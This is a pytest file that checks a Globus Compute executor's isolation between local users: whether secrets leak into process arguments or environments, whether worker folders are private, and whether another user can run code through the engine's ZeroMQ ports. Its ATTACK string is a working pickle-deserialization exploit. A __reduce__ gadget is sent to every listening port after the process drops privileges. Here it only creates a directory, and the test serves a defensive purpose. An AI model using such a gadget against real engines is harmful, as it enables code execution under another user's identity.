"""What other users of this machine can do to a client: nothing; nor can they read its secrets."""

import os
import subprocess
import sys
import time
from pathlib import Path

import psutil
import pytest

SECRET = "secret-of-this-user"
THREADS = "engine: {type: ThreadPoolEngine, max_workers: 1}\n# {{ token }}\n"
HTEX = """
engine:
  type: GlobusComputeEngine
  address: 127.0.0.1
  encrypted: false
  max_workers_per_node: 1
  provider: {type: %s, init_blocks: 1, min_blocks: 1, max_blocks: 1}
"""

# Parsl unpickles what a manager says; and who can connect can say that it is one.
ATTACK = """
import os, pickle, sys, zmq

class Command:
    def __reduce__(self):
        return os.mkdir, (sys.argv[1],)

os.setuid(65534)
context = zmq.Context()
for port in sys.argv[2:]:
    socket = context.socket(zmq.DEALER)
    socket.setsockopt(zmq.LINGER, 1000)
    socket.connect(f"tcp://127.0.0.1:{port}")
    socket.send(pickle.dumps(Command()))
    socket.close()
context.term()
"""


def family():
    return psutil.Process().children(recursive=True)


@pytest.mark.slow("starts an engine")
def test_user_endpoint_config_is_in_no_arguments_and_no_environment(make_executor, tmp_path):
    (tmp_path / "user_config_template.yaml.j2").write_text(THREADS)
    executor = make_executor(endpoint_config=tmp_path, user_endpoint_config={"token": SECRET})
    executor.submit(os.getpid).result()
    shown = [f"{each.cmdline()} {each.environ()}" for each in family()]
    assert [text for text in shown if "'host'" in text] != []
    assert [text for text in shown if SECRET in text] == []


def test_folders_of_workers_are_private(make_executor, tmp_path):
    (tmp_path / "config.yaml").write_text("engine: {type: ThreadPoolEngine, max_workers: 1}\n")
    for options in ({}, {"endpoint_config": tmp_path / "config.yaml"}):
        folder = Path(make_executor(**options).submit(os.getcwd).result())
        private = next(each for each in folder.parents if each.name.startswith("gc-warm-"))
        assert private.stat().st_mode & 0o077 == 0


@pytest.mark.slow
@pytest.mark.may_skip("it needs another user, and who may become one is root")
@pytest.mark.skipif(os.geteuid() != 0, reason="not root")
@pytest.mark.parametrize(
    ("provider", "local_provider", "done"),
    [
        ("KubernetesProvider", True, False),
        ("LocalProvider", False, True),  # the config says so; and the attack is one
    ],
)
def test_another_user_runs_code_as_this_one(
    make_executor, tmp_path, provider, local_provider, done
):
    (tmp_path / "user_config_template.yaml.j2").write_text(HTEX % provider)
    executor = make_executor(endpoint_config=tmp_path, local_provider=local_provider)
    executor.submit(os.getpid).result()
    ports = {
        str(connection.laddr.port)
        for process in family()
        for connection in process.net_connections("tcp")
        if connection.status == psutil.CONN_LISTEN
    }
    assert ports
    target = tmp_path / "made-by-another-user"
    subprocess.run([sys.executable, "-c", ATTACK, target, *ports], check=True, timeout=60)
    if done:
        deadline = time.monotonic() + 20
        while not target.exists() and time.monotonic() < deadline:
            time.sleep(0.1)
        executor.abandon()  # the engine does not survive it
    else:
        executor.submit(os.getpid).result()  # by now it has read what came before
    assert target.exists() == done
